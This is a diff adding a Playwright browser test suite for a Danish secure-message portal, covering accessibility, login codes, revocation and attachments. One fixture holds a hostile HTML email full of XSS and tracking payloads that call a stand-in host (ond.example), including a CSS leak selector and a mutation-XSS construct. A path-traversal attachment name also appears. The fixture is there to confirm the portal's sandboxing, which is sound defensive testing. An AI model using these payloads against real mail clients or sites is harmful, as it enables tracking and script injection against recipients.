@@ -1,0 +1,490 @@
+"""The portal in a real browser: what people meet, whatever they do, and whatever was sent to them."""
+
+from __future__ import annotations
+
+import itertools
+from collections.abc import Callable, Iterator
+from email.message import EmailMessage
+from email.policy import SMTP
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+from playwright.sync_api import expect
+
+from segl.sealed import life
+from segl.store import transaction
+from segl.tables.base import metadata
+from world.browser import DESKTOP, PHONE, SMALL_PHONE, Chromium
+from world.counter import Letter
+from world.portal_site import HOST, PortalSite
+from world.visitor import Visitor
+
+pytestmark = pytest.mark.world
+
+LIMITS = "[portal.limits]\nnetwork_codes_an_hour = 10000\nnetwork_tries_an_hour = 10000\n"
+SUBJECT = "Flytteopgørelse for Åvej 3"
+TEXT = "Her er opgørelsen, vi talte om."
+PICTURE = (
+    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
+    b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
+)
+Seal = Callable[..., Letter]
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PortalSite]:
+    with PortalSite(tmp_path_factory.mktemp("portal"), tables=LIMITS) as site:
+        yield site
+
+
+@pytest.fixture(scope="module")
+def chromium(site: PortalSite, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
+    with Chromium(tmp_path_factory.mktemp("chromium"), site.ca.file, {HOST: "127.0.0.1"}) as chromium:
+        yield chromium
+
+
+_numbers = itertools.count(1)
+
+
+@pytest.fixture
+def seal(site: PortalSite) -> Seal:
+    def seal(html: str = "", content: bytes = b"") -> Letter:
+        site.return_port.forget()
+        return site.seal(f"bo{next(_numbers)}@vestby.example", content or mail(html))
+
+    return seal
+
+
+def mail(html: str = "") -> bytes:
+    message = EmailMessage(policy=SMTP)
+    message["From"] = "Mette Krog <anna@nordby-vand.example>"
+    message["To"] = "Bo Hansen <bo@vestby.example>, carl@nordby-vand.example"
+    message["Subject"] = SUBJECT
+    message["Date"] = "Tue, 24 Nov 2026 09:00:00 +0100"
+    message["Message-ID"] = "<1@nordby-vand.example>"
+    message.set_content(f"Kære Bo\n\n{TEXT}\n")
+    message.add_alternative(
+        html or f"<p>Kære Bo</p><p>{TEXT}</p><img src='cid:logo' alt='logo'>", subtype="html"
+    )
+    [_, text] = message.iter_parts()
+    text.add_related(PICTURE, "image", "png", cid="<logo>")
+    message.add_attachment(PICTURE, maintype="image", subtype="png", filename="måler.png")
+    message.add_attachment(b"1;2;3\n" * 1000, maintype="text", subtype="csv", filename="../../aflæsning.csv")
+    return message.as_bytes()
+
+
+@pytest.fixture
+def visit(site: PortalSite, chromium: Chromium) -> Iterator[Callable[..., Visitor]]:
+    """Somebody with the link of a letter, in a browser of her own."""
+    visitors: list[Visitor] = []
+
+    def visit(letter: Letter, screen: Any = DESKTOP, **more: Any) -> Visitor:
+        person = chromium.person(screen, **more)
+        visitors.append(Visitor(person, site.link(letter), lambda: site.next_code(letter.recipient)))
+        return visitors[-1]
+
+    yield visit
+    for visitor in visitors:
+        visitor.person.close()
+
+
+def everything(site: PortalSite) -> dict[str, list[tuple[object, ...]]]:
+    with transaction(site.engine) as connection:
+        return {t.name: [tuple(r) for r in connection.execute(sa.select(t))] for t in metadata.sorted_tables}
+
+
+@pytest.mark.parametrize(
+    ("screen", "more"), [(PHONE, {}), (DESKTOP, {"dark": True})], ids=["phone", "desktop, dark"]
+)
+def test_every_page_is_good_for_everybody(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor], screen: Any, more: dict[str, Any]
+) -> None:
+    """axe finds nothing against WCAG 2.2 AA on any page, and none is wider than the screen."""
+    her = visit(seal(), screen, inspected=True, **more)
+    found: list[str] = []
+
+    def look(name: str) -> None:
+        found.extend(her.look(f"{screen['viewport']['width']} {name}"))
+        assert her.overflow <= 0, name
+
+    her.open_link()
+    look("1 landing")
+    her.page.goto(her.link.partition("#")[0] + "?fresh")
+    look("2 link not whole")
+    her.page.goto(her.link)
+    her.ask()
+    look("3 code")
+    her.give("12345678")
+    her.page.wait_for_url("**why=wrong")
+    her.page.get_by_text("Kommer koden ikke?").click()
+    look("4 wrong code")
+    her.give(her.next_code())
+    her.page.wait_for_url("**/message")
+    look("5 message")
+    her.write("Tak for brevet.\n\nHilsen Bo")
+    her.attach(("kvittering.pdf", b"%PDF-1.7 x"))
+    look("6 writing")
+    her.send()
+    look("7 answered")
+    her.page.get_by_role("link", name="English").click()
+    expect(her.page.get_by_role("heading", name="Your answers")).to_be_visible()
+    look("8 in English")
+    her.page.get_by_role("button", name="Close the message").click()
+    her.page.wait_for_url("**now=left")
+    look("9 left")
+    for name, path in (("10 revoke", f"/r/{'0' * 32}"), ("11 no such page", "/m/half")):
+        her.page.goto(f"{site.origin}{path}")
+        look(name)
+    assert not found, "\n".join(found)
+
+
+def test_on_the_smallest_phone_and_at_four_times_the_size_nothing_is_cut_off(
+    seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    """320 pixels are what is left of 1280 at 400 % (WCAG 1.4.10), and of 640 at 200 %."""
+    wide = "<table><tr>" + "<td>kolonne</td>" * 40 + "</tr></table><pre>" + "x" * 500 + "</pre>"
+    her = visit(seal(wide), SMALL_PHONE)
+    her.read()
+    assert her.overflow <= 0
+    # Text spacing that a reader may set (WCAG 1.4.12).
+    her.page.evaluate(
+        """() => { for (const e of document.querySelectorAll("*")) { e.style.lineHeight = "1.5";
+        e.style.letterSpacing = "0.12em"; e.style.wordSpacing = "0.16em"; } }"""
+    )
+    assert her.overflow <= 0
+    for button in her.page.get_by_role("button").all():
+        box = button.bounding_box()
+        assert box is None or (box["height"] >= 24 and box["width"] >= 24)
+
+
+def test_the_whole_way_by_keyboard_alone(seal: Seal, visit: Callable[..., Visitor]) -> None:
+    her = visit(seal())
+    her.open_link()
+    keys = her.page.keyboard
+
+    def to(name: str) -> None:
+        """Tab on until the control of this name has the focus; what has it must show it."""
+        for _ in range(40):
+            keys.press("Tab")
+            names, outline = her.page.evaluate(
+                """() => { const at = document.activeElement, style = getComputedStyle(at);
+                return [[at.innerText, at.id], style.outlineStyle + style.outlineWidth]; }"""
+            )
+            if name in names:
+                assert outline == "solid3px"
+                return
+        raise AssertionError(f"no way to {name}")
+
+    keys.press("Tab")
+    assert her.page.locator(":focus").inner_text() == "Gå til indholdet"
+    to("Send mig en kode")
+    keys.press("Enter")
+    expect(her.page.locator(":focus")).to_have_attribute("id", "code")
+    keys.type(her.next_code())
+    keys.press("Enter")
+    her.page.wait_for_url("**/message")
+    to("text")
+    keys.type("Tak for brevet.")
+    to("Send svar")
+    keys.press("Space")
+    expect(her.page.locator(":focus")).to_have_text("Dit svar er sendt.")
+    to("Luk beskeden")
+    keys.press("Enter")
+    expect(her.heading).to_have_text("Beskeden er lukket")
+    assert her.person.faults == []
+
+
+def test_a_screen_reader_is_told_what_each_thing_is(seal: Seal, visit: Callable[..., Visitor]) -> None:
+    her = visit(seal())
+    her.open_link()
+    assert her.page.title() == "Du har fået en sikker besked · Nordby Vandværk"
+    her.ask()
+    expect(her.page.get_by_role("textbox", name="Kode")).to_have_accessible_description("8 cifre")
+    her.give("1234 5678")
+    alert = her.page.get_by_role("alert")
+    expect(alert).to_have_text("Koden passer ikke. Se efter i mailen, og skriv den igen.")
+    expect(her.page.get_by_role("textbox", name="Kode")).to_have_accessible_description(
+        f"8 cifre {alert.inner_text()}"
+    )
+    assert her.page.title().startswith("Fejl: ")
+    her.give(her.next_code())
+    page = her.page
+    expect(page.get_by_role("heading", name=SUBJECT)).to_be_visible()
+    assert page.locator("iframe").get_attribute("title") == "Beskedens tekst"
+    for name in ("Vedhæftede filer", "Svar", "Gem beskeden"):
+        expect(page.get_by_role("region", name=name, exact=True)).to_be_visible()
+    expect(page.get_by_role("link", name="Hent måler.png", exact=True)).to_be_visible()
+    expect(page.get_by_role("textbox", name="Skriv dit svar")).to_have_accessible_description(
+        "Dit svar går sikkert til anna@nordby-vand.example."
+    )
+    for landmark in ("banner", "main", "contentinfo"):
+        expect(page.get_by_role(landmark)).to_have_count(1)
+
+
+def test_without_a_script_everything_works_but_the_link_is_pasted(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    letter = seal()
+    her = visit(letter, PHONE, script=False)
+    her.page.goto(her.link)
+    field = her.page.get_by_label("Linket fra mailen")
+    expect(field).to_be_visible()
+    field.fill(her.link)
+    her.ask()
+    her.give(her.next_code())
+    expect(her.body.get_by_text(TEXT)).to_be_visible()
+    her.write("Tak, jeg har læst det.")
+    her.attach(("a.exe", b"MZ123"))
+    her.press("Send svar")
+    expect(her.page.get_by_role("alert")).to_contain_text("a.exe kan ikke sendes")
+    expect(her.page.get_by_label("Skriv dit svar")).to_have_value("Tak, jeg har læst det.")
+    her.send()
+    [answer] = site.return_port.wait_for(1)
+    assert b"Tak, jeg har l" in answer.content
+    her.press("Luk beskeden")
+    expect(her.heading).to_have_text("Beskeden er lukket")
+
+
+def test_the_secret_leaves_the_address_bar_and_stays_in_the_browser(
+    seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    letter = seal()
+    her = visit(letter, PHONE)
+    her.open_link()
+    assert letter.link not in her.page.url
+    her.page.reload()
+    her.ask()
+    her.page.go_back()
+    her.ask()
+    her.page.go_back()
+    her.page.get_by_role("link", name="English").click()
+    her.page.get_by_role("button", name="Send me a code").click()
+    expect(her.heading).to_have_text("Type the code from the mail")
+    for request in her.person.requests:
+        assert letter.link not in request.url
+        assert letter.link not in str(request.headers)
+        if letter.link in (request.post_data or ""):
+            assert request.url.endswith("/code")
+    assert her.person.faults == []
+
+
+def test_a_scanner_with_a_whole_browser_changes_nothing(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    """Some open links in a real browser, wait for all of it to load, and follow every link they see."""
+    letter = seal()
+    before = everything(site)
+    robot = visit(letter)
+    robot.open_link()
+    robot.page.wait_for_load_state("networkidle")
+    for address in robot.page.eval_on_selector_all("a[href]", "all => all.map(one => one.href)"):
+        robot.page.goto(address)
+    robot.page.goto(site.link(letter).replace("#", "/message#"))
+    assert everything(site) == before
+    assert not site.return_port.received
+    her = visit(letter)
+    her.read()
+
+
+def test_wrong_codes_are_told_and_at_last_refused(seal: Seal, visit: Callable[..., Visitor]) -> None:
+    her = visit(seal())
+    her.open_link()
+    her.ask()
+    code = her.next_code()
+    alert = her.page.get_by_role("alert")
+    for number in range(5):
+        her.give(f"{(int(code) + 1 + number) % 10**8:08d}")
+        expect(alert).to_contain_text("Koden passer ikke")
+    her.give(code)
+    expect(alert).to_contain_text("prøvet for mange gange")
+    her.page.get_by_text("Kommer koden ikke?").click()
+    her.press("Send en ny kode")
+    expect(alert).to_have_count(0)
+    her.give(her.next_code())
+    expect(her.heading).to_have_text(SUBJECT)
+
+
+def test_what_ends_while_it_is_read_is_gone_at_the_next_click(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    """Revoked, then a dead link all the way: the same pages as for a message that never was."""
+    letter = seal()
+    her = visit(letter)
+    her.read()
+    life.revoke(site.engine, site.directory, letter.message_id, site.now, actor="anna@nordby-vand.example")
+    her.page.reload()
+    expect(her.heading).to_have_text("Åbn beskeden igen")
+    assert her.body.locator("body").count() == 0
+    her.page.goto(her.link)
+    her.ask()
+    her.give("12345678")
+    expect(her.page.get_by_role("alert")).to_contain_text("Koden passer ikke")
+    assert not site.return_port.received
+
+
+def test_a_second_browser_needs_a_code_of_its_own(seal: Seal, visit: Callable[..., Visitor]) -> None:
+    letter = seal()
+    her, him = visit(letter), visit(letter, PHONE)
+    her.open_link()
+    her.ask()
+    code = her.next_code()
+    him.page.goto(her.page.url)
+    expect(him.heading).to_have_text("Åbn beskeden igen")
+    him.open_link()
+    him.ask()
+    own = him.next_code()
+    him.give(code)
+    expect(him.page.get_by_role("alert")).to_contain_text("Koden passer ikke")
+    her.give(code)
+    expect(her.heading).to_have_text(SUBJECT)
+    him.give(own)
+    expect(him.heading).to_have_text(SUBJECT)
+
+
+def test_two_tabs_double_clicks_and_the_back_button_do_no_harm(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    letter = seal()
+    her = visit(letter)
+    her.open_link()
+    her.page.get_by_role("button", name="Send mig en kode").dblclick()
+    expect(her.heading).to_have_text("Skriv koden fra mailen")
+    assert len(site.return_port.wait_for(1)) == 1
+    code = her.next_code()
+    other = her.person.page()
+    other.goto(her.page.url)
+    other.get_by_label("Kode", exact=True).fill(code)
+    her.page.get_by_label("Kode", exact=True).fill(code)
+    other.get_by_role("button", name="Læs beskeden").dblclick()
+    her.press("Læs beskeden")  # the code is used up, and this browser has it open
+    for page in (other, her.page):
+        expect(page.get_by_role("heading", level=1)).to_have_text(SUBJECT)
+    her.write("Tak.")
+    her.page.get_by_role("button", name="Send svar").dblclick()
+    expect(her.page.get_by_text("Dit svar er sendt.")).to_be_visible()
+    her.page.go_back()
+    her.page.reload()
+    expect(her.page.get_by_role("listitem").filter(has_text="Tak.")).to_have_count(1)
+    assert len(site.return_port.received) == 1
+    her.press("Luk beskeden")
+    expect(her.heading).to_have_text("Beskeden er lukket")
+    her.page.go_back()
+    expect(her.heading).to_have_text("Åbn beskeden igen")
+    other.reload()
+    expect(other.get_by_role("heading", level=1)).to_have_text("Åbn beskeden igen")
+
+
+HOSTILE = (
+    """
+<html><head><meta http-equiv="refresh" content="0; url=https://ond.example/refresh">
+<link rel="stylesheet" href="https://ond.example/a.css"><link rel="prefetch" href="https://ond.example/prefetch">
+<base href="https://ond.example/"><style>@import url(https://ond.example/b.css);
+body { background: url(https://ond.example/c.png) } @font-face { font-family: x; src: url(https://ond.example/f.woff) }
+input[value^="a"] { background: url(https://ond.example/leak?a) }</style>
+<script>parent.document.title = "pwned"; fetch("https://ond.example/script")</script></head>
+<body onload="top.location='https://ond.example/onload'" background="https://ond.example/bg.png">
+<p>Kære Bo, harmløs tekst</p>
+<p style="background:url(https://ond.example/style.png);position:fixed;top:0;left:0;width:9999px;height:9999px">fast</p>
+<img src="https://ond.example/track.gif" srcset="https://ond.example/set.png 2x"><img src=x onerror="parent.pwned=1">
+<svg onload="parent.pwned=2"><image href="https://ond.example/svg.png"/><use href="data:image/svg+xml,<svg/>"/></svg>
+<video poster="https://ond.example/poster.png" src="https://ond.example/v.mp4" autoplay></video>
+<iframe src="https://ond.example/frame"></iframe><iframe srcdoc="<script>parent.pwned=3</script>"></iframe>
+<object data="https://ond.example/object"></object><embed src="https://ond.example/embed">
+<form action="https://ond.example/form"><input name="code" autofocus onfocus="parent.pwned=4">
+<button>Log ind</button></form>
+<a id="js" href="javascript:parent.pwned=5">et link</a>
+<a href="data:text/html,<script>opener.pwned=6</script>">to links</a>
+<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned=7"></style></mglyph></table></mtext></math>
+<a href="https://anden.example/side" ping="https://ond.example/ping">en side</a>
+<table>"""
+    + "<tr>"
+    + "<td>x</td>" * 50
+    + "</tr>" * 200
+    + """</table><img src="cid:logo" alt="vores"></body></html>
+"""
+)
+
+
+def test_hostile_html_runs_nothing_fetches_nothing_and_leads_nowhere(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    her = visit(seal(HOSTILE))
+    her.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
+    her.read()
+    expect(her.body.get_by_text("harmløs tekst")).to_be_visible()
+    her.page.wait_for_load_state("networkidle")
+    picture = her.body.get_by_alt_text("vores")
+    expect(picture).to_have_js_property("naturalWidth", 1)
+    for link in her.body.locator("a").all():
+        assert (link.get_attribute("href") or "").startswith(("https://anden.example/", "")), link
+        assert "javascript" not in (link.get_attribute("href") or "")
+    with her.page.expect_popup() as opened:
+        her.body.get_by_text("en side").click()
+    opened.value.close()
+    assert her.page.evaluate("window.pwned") is None
+    assert her.page.title() == f"{SUBJECT} · Nordby Vandværk"
+    strangers = {address for address in her.person.asked if not address.startswith(site.origin + "/")}
+    assert strangers <= {"https://anden.example/side"}  # the link that she clicked, and nothing else
+    assert her.overflow <= 0
+    frame = her.page.locator("iframe").bounding_box()
+    fixed = her.body.get_by_text("fast").bounding_box()
+    assert frame is not None
+    assert fixed is None or fixed["width"] <= frame["width"]
+
+
+def test_files_are_saved_and_never_shown(seal: Seal, visit: Callable[..., Visitor]) -> None:
+    content = mail()
+    her = visit(seal(content=content))
+    her.read()
+    names = set()
+    for link in her.page.get_by_role("link", name="Hent").all():
+        with her.page.expect_download() as saved:
+            link.click()
+        names.add(saved.value.suggested_filename)
+    assert names == {"måler.png", "aflæsning.csv"}
+    with her.page.expect_download() as saved:
+        her.page.get_by_role("link", name="Som mail (.eml)").click()
+    assert saved.value.suggested_filename == f"{SUBJECT}.eml"
+    assert saved.value.path().read_bytes() == content
+
+
+def test_files_are_chosen_dropped_and_taken_out_again(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    her = visit(seal())
+    her.read()
+    photos = [(f"foto {number}.jpg", bytes([number]) * 50_000) for number in (1, 2)]
+    her.attach(photos[0])
+    her.page.evaluate(
+        """() => { const data = new DataTransfer();
+        data.items.add(new File(["x".repeat(9000)], "sluppet.txt"));
+        const event = new DragEvent("drop", {dataTransfer: data, bubbles: true});
+        document.querySelector("[data-drop]").dispatchEvent(event); }"""
+    )
+    her.attach(photos[1])
+    chosen = her.page.locator("[data-chosen] .name")
+    expect(chosen).to_have_text(["foto 1.jpg", "sluppet.txt", "foto 2.jpg"])
+    her.press("Fjern foto 1.jpg")
+    expect(chosen).to_have_text(["sluppet.txt", "foto 2.jpg"])
+    her.write("To filer.")
+    her.send()
+    [answer] = site.return_port.wait_for(1)
+    assert answer.content.count(b"Content-Disposition: attachment") == 2
+
+
+def test_a_file_that_is_refused_is_told_and_what_was_written_stays(
+    site: PortalSite, seal: Seal, visit: Callable[..., Visitor]
+) -> None:
+    her = visit(seal(), PHONE)
+    her.read()
+    her.write("Se filen.")
+    cases = [("virus.exe", b"MZ", "kan ikke sendes"), ("tom.txt", b"", "er tom")]
+    for name, content, words in cases:
+        her.attach((name, content))
+        her.press("Send svar")
+        expect(her.page.get_by_role("status")).to_contain_text(f"{name} {words}")
+        expect(her.page.get_by_label("Skriv dit svar")).to_have_value("Se filen.")
+        her.press(f"Fjern {name}")
+    her.send()
+    assert len(site.return_port.wait_for(1)) == 1
